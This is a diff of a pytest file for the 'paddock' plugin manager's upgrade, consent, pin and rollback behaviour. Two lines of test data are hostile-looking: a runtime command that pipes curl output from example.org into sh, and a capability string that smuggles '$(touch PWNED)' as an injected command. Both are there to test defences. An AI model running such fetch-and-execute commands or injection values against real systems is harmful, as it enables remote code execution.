@@ -5,6 +5,7 @@ from __future__ import annotations
 import shlex
 import tomllib
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -17,10 +18,14 @@ TWO = "net:mail.example.com:443"
 THREE = "storage:write"
 
 
+def notes_package(root: Path, name: str = "notes", version: str = "1.0.0", **fields: Any) -> Path:
+    return native(root, name, version, **{"capabilities": [ONE]} | fields)
+
+
 @pytest.fixture
 def installed(paddock: Paddock, source: Path) -> Paddock:
     """A home in which notes 1.0.0 is installed and enabled."""
-    paddock.quickly("plugin", "install", native(source), "--yes")
+    paddock.quickly("plugin", "install", notes_package(source), "--yes", "--grant", ONE)
     paddock.quickly("plugin", "enable", "notes", "--no-start")
     return paddock
 
@@ -32,7 +37,7 @@ def version(paddock: Paddock) -> str:
 @pytest.mark.req("K-03", "versions side by side")
 @pytest.mark.req("G-50", "shows what changes")
 def test_an_upgrade_shows_only_what_changes_and_stays_enabled(installed: Paddock, source: Path) -> None:
-    native(source, version="1.1.0", tools=[{"name": "add", "effects": ["db_write", "external_send"]}])
+    notes_package(source, version="1.1.0", tools=[{"name": "add", "effects": ["db_write", "external_send"]}])
     said = installed("plugin", "upgrade", "notes", "--yes")
 
     assert "notes 1.0.0 → 1.1.0" in said.err
@@ -48,10 +53,12 @@ def test_an_upgrade_shows_only_what_changes_and_stays_enabled(installed: Paddock
 @pytest.mark.req("G-50", "acknowledged one by one")
 @pytest.mark.req("G-31", "upgrade with capability diff")
 def test_new_capabilities_without_a_terminal_wait_with_the_exact_line_to_type(installed: Paddock, source: Path) -> None:
-    native(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
+    notes_package(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
     said = installed("plugin", "upgrade", "notes", "--yes", "--json", code=4)
 
-    assert said.error["details"] == {"capabilities": [TWO, THREE]}
+    assert said.error["code"] == "consent.dangers"
+    assert said.error["details"]["capabilities"] == [TWO, THREE]
+    assert [one["capability"] for one in said.error["details"]["dangers"]] == [TWO]
     assert f"paddock plugin upgrade notes --grant {TWO} --grant {THREE} --yes" in said.err
     assert f"+ {TWO}" in said.err
     assert version(installed) == "1.0.0"
@@ -67,7 +74,7 @@ def test_new_capabilities_without_a_terminal_wait_with_the_exact_line_to_type(in
 def test_a_newer_package_at_its_source_changes_nothing_until_somebody_upgrades(
     installed: Paddock, source: Path
 ) -> None:
-    native(source, version="1.1.0")
+    notes_package(source, version="1.1.0")
     for _ in range(2):  # and not at the next start either
         with daemon(installed) as served:
             shown = served.ask("GET", "/plugins/notes").body
@@ -80,7 +87,7 @@ def test_a_newer_package_at_its_source_changes_nothing_until_somebody_upgrades(
 
 
 def test_a_grant_that_is_no_capability_is_told(installed: Paddock, source: Path) -> None:
-    native(source, version="1.1.0", capabilities=[ONE, TWO])
+    notes_package(source, version="1.1.0", capabilities=[ONE, TWO])
     said = installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", "everything", "--json", code=6)
 
     assert said.error["code"] == "capability.malformed"
@@ -88,7 +95,7 @@ def test_a_grant_that_is_no_capability_is_told(installed: Paddock, source: Path)
 
 @pytest.mark.req("G-50", "acknowledged one by one")
 def test_at_a_terminal_each_new_capability_is_asked_for_by_itself(installed: Paddock, source: Path) -> None:
-    native(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
+    notes_package(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
     screen = installed.on_terminal("plugin", "upgrade", "notes", answers=["y", "y", "n"], code=4)
     assert f"({TWO})? [y/N]" in screen
     assert f"you did not grant {THREE}, and nothing was changed" in screen
@@ -103,7 +110,7 @@ def test_at_a_terminal_each_new_capability_is_asked_for_by_itself(installed: Pad
 @pytest.mark.req("K-16", "report at install")
 def test_schemas_that_break_what_the_version_promises_are_reported(installed: Paddock, source: Path) -> None:
     stricter = TEXT | {"required": ["text", "mood"]}
-    native(source, version="1.0.1", tools=[{"name": "add", "effects": ["db_write"], "input_schema": stricter}])
+    notes_package(source, version="1.0.1", tools=[{"name": "add", "effects": ["db_write"], "input_schema": stricter}])
     said = installed("plugin", "upgrade", "notes", "--yes", "--json")
 
     assert "Breaks what its version number promises" in said.err
@@ -113,13 +120,15 @@ def test_schemas_that_break_what_the_version_promises_are_reported(installed: Pa
     ]
 
     # The same step with a new major version is what such numbers are for.
-    native(source, version="2.0.0", tools=[{"name": "add", "effects": ["db_write"], "input_schema": {"type": "null"}}])
+    notes_package(
+        source, version="2.0.0", tools=[{"name": "add", "effects": ["db_write"], "input_schema": {"type": "null"}}]
+    )
     assert "Breaks what" not in installed.quickly("plugin", "upgrade", "notes", "--yes").err
 
 
 @pytest.mark.req("K-16", "report at install")
 def test_a_patch_that_drops_a_callable_is_reported_as_breaking(installed: Paddock, source: Path) -> None:
-    native(source, version="1.0.1", tools=[{"name": "append", "effects": ["db_write"]}])
+    notes_package(source, version="1.0.1", tools=[{"name": "append", "effects": ["db_write"]}])
     said = installed.quickly("plugin", "upgrade", "notes", "--yes")
 
     assert "add: is gone" in said.err
@@ -129,7 +138,7 @@ def test_a_patch_that_drops_a_callable_is_reported_as_breaking(installed: Paddoc
 @pytest.mark.req("O-14", "pin")
 def test_a_pinned_plugin_is_not_moved_and_nobody_is_asked(installed: Paddock, source: Path) -> None:
     assert "pinned notes to 1.0.0" in installed("plugin", "pin", "notes").err
-    native(source, version="1.1.0")
+    notes_package(source, version="1.1.0")
     # Without --yes: the refusal comes before any question.
     said = installed("plugin", "upgrade", "notes", "--json", code=1)
     assert said.error["code"] == "plugin.pinned"
@@ -142,7 +151,7 @@ def test_a_pinned_plugin_is_not_moved_and_nobody_is_asked(installed: Paddock, so
 
 
 def test_an_older_package_is_refused_unless_insisted_upon(installed: Paddock, source: Path) -> None:
-    native(source, version="0.9.0")
+    notes_package(source, version="0.9.0")
     said = installed.quickly("plugin", "upgrade", "notes", "--yes", "--json", code=1)
     assert said.error["code"] == "plugin.downgrade"
     assert version(installed) == "1.0.0"
@@ -152,7 +161,7 @@ def test_an_older_package_is_refused_unless_insisted_upon(installed: Paddock, so
 
 
 def test_a_package_of_another_name_is_refused(installed: Paddock, source: Path) -> None:
-    other = native(source / "other", name="jotter", version="2.0.0")
+    other = notes_package(source / "other", name="jotter", version="2.0.0")
     said = installed.quickly("plugin", "upgrade", "notes", other, "--yes", "--json", code=1)
 
     assert said.error["code"] == "plugin.other_name"
@@ -172,7 +181,7 @@ def test_an_upgrade_from_a_source_that_is_gone_or_a_plugin_that_is_not_there_is_
 
 @pytest.mark.req("O-14", "rollback")
 def test_going_back_shows_the_difference_and_asks_for_what_was_given_up(installed: Paddock, source: Path) -> None:
-    native(source, version="2.0.0", capabilities=[THREE])
+    notes_package(source, version="2.0.0", capabilities=[THREE])
     installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", THREE)
 
     waits = installed("plugin", "rollback", "notes", "--yes", "--json", code=4)
@@ -205,7 +214,7 @@ def test_going_back_where_there_is_nothing_to_go_back_to_is_told(installed: Padd
 @pytest.mark.req("O-18", "pinned version removed")
 @pytest.mark.req("O-14", "a removed pin is told")
 def test_a_removed_pinned_version_is_told_with_both_ways_out(installed: Paddock, source: Path) -> None:
-    native(source, version="1.1.0")
+    notes_package(source, version="1.1.0")
     installed.quickly("plugin", "upgrade", "notes", "--yes")
     installed.quickly("plugin", "pin", "notes", "1.0.0")
     assert version(installed) == "1.0.0"
@@ -230,7 +239,7 @@ def test_a_removed_pinned_version_is_told_with_both_ways_out(installed: Paddock,
 def test_pinning_an_older_version_does_not_bring_back_capabilities_that_were_given_up(
     installed: Paddock, source: Path
 ) -> None:
-    native(source, version="2.0.0", capabilities=[THREE])
+    notes_package(source, version="2.0.0", capabilities=[THREE])
     installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", THREE)
     said = installed.quickly("plugin", "pin", "notes", "1.0.0", "--json", code=4)
 
@@ -242,7 +251,9 @@ def test_pinning_an_older_version_does_not_bring_back_capabilities_that_were_giv
 
 
 def test_an_upgrade_tells_which_files_and_which_program_changed(installed: Paddock, source: Path) -> None:
-    native(source, version="1.1.0", capabilities=[ONE], runtime={"command": ["bash", "-c", "curl example.org | sh"]})
+    notes_package(
+        source, version="1.1.0", capabilities=[ONE], runtime={"command": ["bash", "-c", "curl example.org | sh"]}
+    )
     (source / "extra.py").write_text("print(1)\n")
     screen = installed("plugin", "upgrade", "notes", "--yes").err
 
@@ -252,7 +263,7 @@ def test_an_upgrade_tells_which_files_and_which_program_changed(installed: Paddo
 
 
 def test_without_a_terminal_one_refusal_names_everything_to_agree_to(installed: Paddock, source: Path) -> None:
-    native(source, version="1.1.0", capabilities=[ONE, TWO])
+    notes_package(source, version="1.1.0", capabilities=[ONE, TWO])
     said = installed("plugin", "upgrade", "notes", "--json", code=4)
 
     assert f"paddock plugin upgrade notes --grant {TWO} --yes" in said.err
@@ -261,14 +272,14 @@ def test_without_a_terminal_one_refusal_names_everything_to_agree_to(installed: 
 
 def test_the_line_to_type_is_safe_to_paste(installed: Paddock, source: Path) -> None:
     hostile = "read:fs:/opt/x'$(touch PWNED)'"
-    native(source, version="1.1.0", capabilities=[ONE, hostile])
+    notes_package(source, version="1.1.0", capabilities=[ONE, hostile])
     said = installed("plugin", "upgrade", "notes", "--yes", code=4)
     line = said.err.rpartition("each of them: ")[2].strip()
     assert shlex.split(line) == ["paddock", "plugin", "upgrade", "notes", "--grant", hostile, "--yes"]
 
 
 def test_an_upgrade_says_when_it_comes_from_elsewhere(installed: Paddock, tmp_path: Path) -> None:
-    other = native(tmp_path / "elsewhere", version="9.0.0", capabilities=[ONE], author="Mallory")
+    other = notes_package(tmp_path / "elsewhere", version="9.0.0", capabilities=[ONE], author="Mallory")
     screen = installed("plugin", "install", other, "--yes").err
     assert "came from directory" in screen
     assert "now by Mallory" in screen
@@ -283,6 +294,6 @@ def test_a_yes_to_what_a_plugin_does_not_ask_for_is_refused_with_the_way_to_give
     assert f"notes 1.0.0 does not ask for {TWO}" in said.err
     assert "own manifest\n  → paddock plugin upgrade notes" in said.err
     # That way works.
-    native(source, version="1.1.0", capabilities=[ONE, TWO])
+    notes_package(source, version="1.1.0", capabilities=[ONE, TWO])
     installed("plugin", "upgrade", "notes", "--grant", TWO, "--yes")
     assert TWO in installed.quickly("plugin", "show", "notes", "--json").json["capabilities"]
